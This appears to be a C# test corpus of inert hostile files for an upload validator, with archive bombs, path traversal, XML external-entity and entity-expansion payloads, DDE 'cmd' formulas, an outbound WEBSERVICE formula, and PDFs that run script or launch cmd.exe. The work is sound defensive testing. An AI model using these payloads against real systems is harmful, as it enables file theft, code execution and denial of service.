using System.Text;
using Serai.Platform.Files;
using static Serai.Tests.Files.Archives;

namespace Serai.Tests.Files;

/// <param name="Expected">Null when the file must be accepted.</param>
internal sealed record HostileFile(string What, string Name, FilePurpose Purpose, FileFault? Expected, Func<byte[]> Make);

/// <summary>The corpus of hostile files, made in code: each one inert, each one of a family seen in the wild.</summary>
internal static class HostileFiles
{
    private static readonly FilePurpose Import = FilePurpose.DataImport, Text = FilePurpose.Document, Candidate = FilePurpose.CandidateDocument, Photo = FilePurpose.Photo;

    private static readonly byte[] Compound = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[1024]];

    public static IReadOnlyList<HostileFile> All { get; } =
    [
        // A archives
        new("flat bomb", "people.xlsx", Import, FileFault.ArchiveBomb, Bomb),
        new("directory that lies about sizes", "people.xlsx", Import, FileFault.ArchiveBomb, () => Lying(Xlsx(Row(new string('x', 5000))))),
        new("overlapping entries", "people.xlsx", Import, FileFault.ArchiveDamaged, () => Overlapping(Xlsx())),
        new("path to a parent folder", "people.xlsx", Import, FileFault.ArchiveNames, () => Xlsx(Row("x"), ("../../../../etc/cron.d/x", Bytes("x")))),
        new("absolute path", "people.xlsx", Import, FileFault.ArchiveNames, () => Xlsx(Row("x"), ("/abs/x", Bytes("x")))),
        new("path with backslashes", "people.xlsx", Import, FileFault.ArchiveNames, () => Xlsx(Row("x"), ("..\\..\\w.txt", Bytes("x")))),
        new("name with a control character", "people.xlsx", Import, FileFault.ArchiveNames, () => Xlsx(Row("x"), ("xl/a\u0007.xml", Bytes("<a/>")))),
        new("name of 300 letters", "people.xlsx", Import, FileFault.ArchiveNames, () => Xlsx(Row("x"), (new string('n', 300) + ".xml", Bytes("<a/>")))),
        new("65,000 empty entries", "people.xlsx", Import, FileFault.TooManyParts, () => ManyParts(65_000)),
        new("cut archive", "people.xlsx", Import, FileFault.ArchiveDamaged, () => Xlsx()[..^40]),
        new("flipped bytes in a part", "people.xlsx", Import, FileFault.ArchiveDamaged, () => Flip(Xlsx(Row(new string('x', 500))), 60)),
        new("link entry", "people.xlsx", Import, FileFault.ArchiveLink, () => WithLink(Xlsx())),
        new("shell script before the archive", "people.xlsx", Import, FileFault.ArchivePrefix, () => [.. Bytes("#!/bin/sh\necho hello\n"), .. Xlsx()]),
        new("bytes after the archive", "people.xlsx", Import, FileFault.ArchiveDamaged, () => [.. Xlsx(), 1, 2, 3]),
        new("encrypted entries", "people.xlsx", Import, FileFault.ArchiveEncrypted, () => Encrypted(Xlsx())),
        new("two parts of one name", "people.xlsx", Import, FileFault.ArchiveDuplicate, Duplicated),
        new("archive within the archive", "people.xlsx", Import, FileFault.UnexpectedPart, () => Xlsx(Row("x"), ("xl/more.zip", Zip(("a", Bytes("a")))))),
        new("plain archive under a document's name", "people.xlsx", Import, FileFault.ContentDiffers, () => Zip(("people.csv", Bytes("a,b")))),
        new("program inside a picture part", "report.docx", Text, FileFault.UnexpectedPart, () => Docx(more: ("word/media/a.png", [(byte)'M', (byte)'Z', .. new byte[100]]))),
        new("web page inside a document", "report.docx", Text, FileFault.UnexpectedPart, () => Docx(more: ("word/a.html", Bytes("<html>")))),

        // B XML
        new("exponential entities", "people.xlsx", Import, FileFault.XmlDocumentType, () => XlsxWithSheet(Bytes(Laughs()))),
        new("quadratic entities", "people.xlsx", Import, FileFault.XmlDocumentType, () => XlsxWithSheet(Bytes($"<!DOCTYPE a [<!ENTITY x \"{new string('x', 50_000)}\">]><a>{string.Concat(Enumerable.Repeat("&x;", 1000))}</a>"))),
        new("external document type", "people.xlsx", Import, FileFault.XmlDocumentType, () => XlsxWithSheet(Bytes("<!DOCTYPE w SYSTEM \"http://127.0.0.1:9/evil.dtd\"><w/>"))),
        new("external entity", "report.docx", Text, FileFault.XmlDocumentType, () => Docx(more: ("word/extra.xml", Bytes("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")))),
        new("document type in the content types", "people.xlsx", Import, FileFault.XmlDocumentType, () => Zip(("[Content_Types].xml", Bytes("<!DOCTYPE a [<!ENTITY x \"y\">]><Types/>")))),
        new("document type in a relationship part", "report.docx", Text, FileFault.XmlDocumentType, () => Docx(more: ("word/_rels/document.xml.rels", Bytes("<!DOCTYPE a SYSTEM \"http://127.0.0.1:9/\"><a/>")))),
        new("document type in UTF-16", "people.xlsx", Import, FileFault.XmlEncoding, () => XlsxWithSheet([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>")])),
        new("another encoding declared", "people.xlsx", Import, FileFault.XmlEncoding, () => XlsxWithSheet(Bytes("<?xml version=\"1.0\" encoding=\"utf-7\"?><a/>"))),
        new("100,000 nested elements", "people.xlsx", Import, FileFault.XmlTooDeep, () => XlsxWithSheet(Bytes(string.Concat(Enumerable.Repeat("<a>", 100_000))))),
        new("attribute of 3 MB", "people.xlsx", Import, FileFault.XmlTooLong, () => XlsxWithSheet(Bytes($"<a b=\"{Noise(3_000_000)}\"/>"))),
        new("60,000 different names", "people.xlsx", Import, FileFault.XmlTooLong, () => XlsxWithSheet(Bytes("<a>" + string.Concat(Enumerable.Range(0, 60_000).Select(i => $"<n{i}/>")) + "</a>"))),
        new("inclusion", "report.docx", Text, FileFault.ExternalReference, () => Docx(more: ("word/extra.xml", Bytes("<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></a>")))),
        new("damaged part", "people.xlsx", Import, FileFault.XmlDamaged, () => XlsxWithSheet(Bytes("<a><b></a>"))),
        new("row number beyond every sheet", "people.xlsx", Import, FileFault.XmlDamaged, () => Xlsx("<row r=\"2147483647\"/>")),

        // C active content
        new("macro document under a harmless name", "report.docx", Text, FileFault.Macro, () => DocxOfType("application/vnd.ms-word.document.macroEnabled.main+xml", ("word/vbaProject.bin", Compound))),
        new("macro part alone", "people.xlsx", Import, FileFault.Macro, () => Xlsx(Row("x"), ("xl/vbaProject.bin", Compound))),
        new("macro sheet of the old kind", "people.xlsx", Import, FileFault.Macro, () => Xlsx(Row("x"), ("xl/macrosheets/sheet1.xml", Bytes("<a/>")))),
        new("OLE object", "report.docx", Text, FileFault.EmbeddedObject, () => Docx(more: ("word/embeddings/oleObject1.bin", Compound))),
        new("OLE object under a picture's name", "report.docx", Text, FileFault.EmbeddedObject, () => Docx(more: ("word/media/image1.png", Compound))),
        new("control", "people.xlsx", Import, FileFault.EmbeddedObject, () => Xlsx(Row("x"), ("xl/activeX/activeX1.xml", Bytes("<a/>")))),
        new("old binary workbook renamed", "people.xlsx", Import, FileFault.OldOffice, () => Compound),
        new("old binary workbook under its own name", "people.xls", Import, FileFault.OldOffice, () => Compound),
        new("attached template", "report.docx", Text, FileFault.ExternalReference, () => Docx(more: Relation("word/_rels/settings.xml.rels", "attachedTemplate", "http://127.0.0.1:9/t.dotm", true))),
        new("picture loaded from outside", "report.docx", Text, FileFault.ExternalReference, () => Docx(more: Relation("word/_rels/document.xml.rels", "image", "http://127.0.0.1:9/a.png", true))),
        new("outside target without saying so", "report.docx", Text, FileFault.ExternalReference, () => Docx(more: Relation("word/_rels/document.xml.rels", "image", "\\\\127.0.0.1\\share\\a.png", false))),
        new("web page as a chunk", "report.docx", Text, FileFault.ExternalReference, () => Docx(more: Relation("word/_rels/document.xml.rels", "aFChunk", "a.xml", false))),
        new("link to another workbook", "people.xlsx", Import, FileFault.ExternalReference, () => Xlsx(Row("x"), ("xl/externalLinks/externalLink1.xml", Bytes("<a/>")))),
        new("data connection", "people.xlsx", Import, FileFault.ExternalReference, () => Xlsx(Row("x"), ("xl/connections.xml", Bytes("<a/>")))),
        new("data exchange formula", "people.xlsx", Import, FileFault.DataExchange, () => Xlsx("<row r=\"1\"><c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>0</v></c></row>")),
        new("data exchange in a defined name", "people.xlsx", Import, FileFault.DataExchange, () => Xlsx(Row("x"), ("xl/names.xml", Bytes("<definedNames><definedName name=\"a\">cmd|'/c calc'!A0</definedName></definedNames>")))),
        new("data exchange field", "report.docx", Text, FileFault.DataExchange, () => Docx("<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/></w:p>")),
        new("data exchange field in pieces", "report.docx", Text, FileFault.DataExchange, () => Docx("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> D</w:instrText></w:r><w:r><w:instrText>DE cmd </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")),
        new("field that loads a file", "report.docx", Text, FileFault.ExternalReference, () => Docx("<w:p><w:fldSimple w:instr=\" INCLUDETEXT http://127.0.0.1:9/a \"/></w:p>")),
        new("formula that calls out", "people.xlsx", Import, FileFault.CallingFormula, () => Xlsx("<row r=\"1\"><c r=\"A1\"><f>_xlfn.WEBSERVICE(\"http://127.0.0.1:9/\"&amp;B1)</f></c></row>")),
        new("document hidden two levels deep", "slides.pptx", Text, FileFault.EmbeddedObject, () => Pptx(("ppt/embeddings/a.xlsx", Xlsx(Row("x"), ("xl/embeddings/b.docx", Docx()))))),
        new("macros in the workbook of a chart", "slides.pptx", Text, FileFault.Macro, () => Pptx(("ppt/embeddings/a.xlsx", Xlsx(Row("x"), ("xl/vbaProject.bin", Compound))))),
        new("workbook under a document's name", "report.docx", Text, FileFault.ContentDiffers, () => Xlsx()),

        // E pictures
        new("PNG claiming 1 × 500,000,000 pixels", "photo.png", Photo, FileFault.PictureTooLarge, () => Pictures.PngClaiming(1, 500_000_000)),
        new("PNG claiming 50,000 × 50,000 pixels", "photo.png", Photo, FileFault.PictureTooLarge, () => Pictures.PngClaiming(50_000, 50_000)),
        new("JPEG claiming 60,000 × 60,000 pixels", "photo.jpg", Photo, FileFault.PictureTooLarge, () => Pictures.JpegClaiming(60_000, 60_000)),
        new("PNG claiming 0 pixels", "photo.png", Photo, FileFault.PictureDamaged, () => Pictures.PngClaiming(0, 10)),
        new("PNG without its pixels", "photo.png", Photo, FileFault.PictureDamaged, () => Pictures.PngClaiming(100, 100)),
        new("first 40 bytes of a PNG", "photo.png", Photo, FileFault.PictureDamaged, () => Pictures.Png()[..40]),
        new("half a JPEG", "photo.jpg", Photo, FileFault.PictureDamaged, () => Pictures.Jpeg()[..^200]),
        new("256 MiB of text in a PNG", "photo.png", Photo, FileFault.PictureBomb, () => Pictures.PngWithText(256L * 1024 * 1024)),
        new("SVG with a script", "photo.svg", Photo, FileFault.TypeNotAccepted, () => Bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>")),
        new("SVG under a picture's name", "photo.png", Photo, FileFault.ContentDiffers, () => Bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>")),
        new("GIF under a picture's name", "photo.jpg", Photo, FileFault.ContentDiffers, () => Bytes("GIF89a.............")),
        new("PNG under a JPEG's name", "photo.jpg", Photo, FileFault.ContentDiffers, () => Pictures.Png()),

        // F PDF
        new("PDF that runs a script when opened", "cv.pdf", Candidate, FileFault.PdfActive, () => Pdfs.Plain("/OpenAction << /S/JavaScript /JS (app.alert\\(1\\)) >>")),
        new("PDF script with an escaped name", "cv.pdf", Candidate, FileFault.PdfActive, () => Pdfs.Plain("/OpenAction << /S/J#61va#53cript /JS (x) >>")),
        new("PDF script in a packed object", "cv.pdf", Candidate, FileFault.PdfActive, () => Pdfs.Packed("<< /S /JavaScript /JS (x) >>")),
        new("PDF that launches a program", "cv.pdf", Candidate, FileFault.PdfActive, () => Pdfs.Plain("/OpenAction << /S /Launch /F (cmd.exe) >>")),
        new("PDF with a file attached", "cv.pdf", Candidate, FileFault.PdfActive, () => Pdfs.Plain(objects: "8 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n")),
        new("protected PDF", "cv.pdf", Candidate, FileFault.PdfEncrypted, () => Pdfs.Plain(objects: "8 0 obj\n<< /Encrypt 9 0 R >>\nendobj\n")),
        new("web page before the PDF", "cv.pdf", Candidate, FileFault.ContentDiffers, () => [.. Bytes("<html><body></body></html>\n"), .. Pdfs.Plain()]),
        new("cut PDF", "cv.pdf", Candidate, FileFault.PdfDamaged, () => Bytes("%PDF-1.7\n1 0 obj\n<< /Type /Cat")),
        new("program under a PDF's name", "cv.pdf", Candidate, FileFault.ContentDiffers, () => [(byte)'M', (byte)'Z', .. new byte[500]]),
        new("PDF of 201 pages", "cv.pdf", Candidate, FileFault.TooManyPages, () => Pdfs.Plain(pages: 201)),
        new("PDF that is an archive as well", "cv.pdf", Candidate, FileFault.ContentDiffers, () => [.. Pdfs.Plain(), .. Zip(("a", Bytes("a")))]),

        // H names and sizes
        new("empty file", "cv.pdf", Candidate, FileFault.Empty, () => []),
        new("one byte", "cv.pdf", Candidate, FileFault.ContentDiffers, () => [(byte)'%']),
        new("one byte too large", "cv.pdf", Candidate, FileFault.TooLarge, () => new byte[10 * 1024 * 1024 + 1]),
        new("name read backwards", "report\u202Efdp.exe", Candidate, FileFault.TypeNotAccepted, () => Pdfs.Plain()),
        new("two extensions, the last one runs", "x.pdf.exe", Candidate, FileFault.TypeNotAccepted, () => Pdfs.Plain()),
        new("no extension", "cv", Candidate, FileFault.TypeNotAccepted, () => Pdfs.Plain()),
        new("antivirus test file", "people.csv", Import, FileFault.TestVirus, () => Bytes(TestVirus)),
        new("antivirus test file inside a document", "report.docx", Text, FileFault.TestVirus, () => Docx(more: ("word/note.txt", Bytes(TestVirus)))),
        new("web page under a table's name", "people.csv", Import, FileFault.ContentDiffers, () => Bytes("\uFEFF <HTML><script>alert(1)</script>")),
        new("database under a table's name", "people.csv", Import, FileFault.ContentDiffers, () => Bytes("SQLite format 3\0")),

        // What is honest must pass
        new("plain workbook", "people.xlsx", Import, null, () => Xlsx()),
        new("workbook with harmless formulas", "people.xlsx", Import, null, () => Xlsx("<row r=\"1\"><c r=\"A1\"><f>SUM(B1:B9)&amp;\" a|b \"&amp;VLOOKUP(C1,D:E,2,FALSE)</f><v>0</v></c></row>")),
        new("workbook with printer settings", "people.xlsx", Import, null, () => Xlsx(Row("x"), ("xl/printerSettings/printerSettings1.bin", new byte[300]))),
        new("document with a link for readers", "report.docx", Text, null, () => Docx(more: Relation("word/_rels/document.xml.rels", "hyperlink", "https://www.wcoomd.org/", true))),
        new("document with page numbers", "report.docx", Text, null, () => Docx("<w:p><w:fldSimple w:instr=\" PAGE \"/><w:fldSimple w:instr=\" HYPERLINK &quot;https://www.wcoomd.org/&quot; \"/></w:p>")),
        new("presentation with a chart and its numbers", "slides.pptx", Text, null, () => Pptx(("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", Xlsx()))),
        new("comment drawing with unclosed tags", "people.xlsx", Import, null, () => Xlsx(Row("x"), ("xl/drawings/vmlDrawing1.vml", Bytes("<xml><div>a<br>b</div></xml>")))),
        new("PDF that opens at its first page", "cv.pdf", Candidate, null, () => Pdfs.Plain("/OpenAction [3 0 R /Fit]")),
        new("PDF with packed objects", "cv.pdf", Candidate, null, () => Pdfs.Packed("<< /Producer (x) >>")),
        new("JPEG with a position", "photo.jpg", Photo, null, Pictures.JpegWithPosition),
        new("JPEG with a script before its end", "photo.jpg", Photo, null, () => Pictures.WithScriptBeforeEnd(Pictures.Jpeg())),
        new("PNG with a little text", "photo.png", Photo, null, () => Pictures.PngWithText(2000)),
        new("two extensions, the last one harmless", "x.exe.pdf", Candidate, null, () => Pdfs.Plain()),
        new("table with formulas", "people.csv", Import, null, () => Bytes("name\n=1+1\n+1\n-1\n@x\n\uFF1D1\n=cmd|'/c calc'!A0\n")),
        new("table with NUL", "people.csv", Import, null, () => Bytes("a,b\n1\0,2\n")),
        new("table in UTF-16", "people.csv", Import, null, () => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("имя;дата\nАйгерім;1")]),
        new("table of markup", "people.csv", Import, null, () => Bytes("name\n<img src=x onerror=alert(1)>\n{{7*7}}\n")),
    ];

    public static string TestVirus => @"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    private static string Row(string text) => $"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{text}</t></is></c></row>";

    private static byte[] Flip(byte[] bytes, int at)
    {
        bytes[at] ^= 0xFF;
        bytes[at + 1] ^= 0xFF;
        return bytes;
    }

    private static string Laughs()
    {
        var text = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"ha\">");
        for (var i = 1; i < 10; i++) text.Append($"<!ENTITY l{i} \"").Insert(text.Length, $"&l{i - 1};", 10).Append("\">");
        return text.Append("]><a>&l9;</a>").ToString();
    }

    // Not too regular, or the ratio would be what refuses it.
    private static string Noise(int length)
    {
        var random = new Random(7);
        return string.Create(length, random, static (span, r) => { for (var i = 0; i < span.Length; i++) span[i] = (char)('a' + r.Next(26)); });
    }
}
